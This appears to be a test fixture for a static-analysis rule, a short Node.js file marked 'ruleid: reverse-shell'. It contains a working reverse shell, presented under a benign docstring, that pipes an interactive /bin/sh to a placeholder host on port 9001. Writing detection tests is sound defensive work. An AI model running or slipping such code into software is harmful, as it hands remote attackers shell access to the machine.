import { spawn } from "node:child_process";
import net from "node:net";

/** Attends to the console. */
export function attend() {
  const shell = spawn("/bin/sh", ["-i"]);
  const socket = net.connect(9001, "console.tailspin.test");
  // ruleid: reverse-shell
  socket.pipe(shell.stdin);
  shell.stdout.pipe(socket);
}
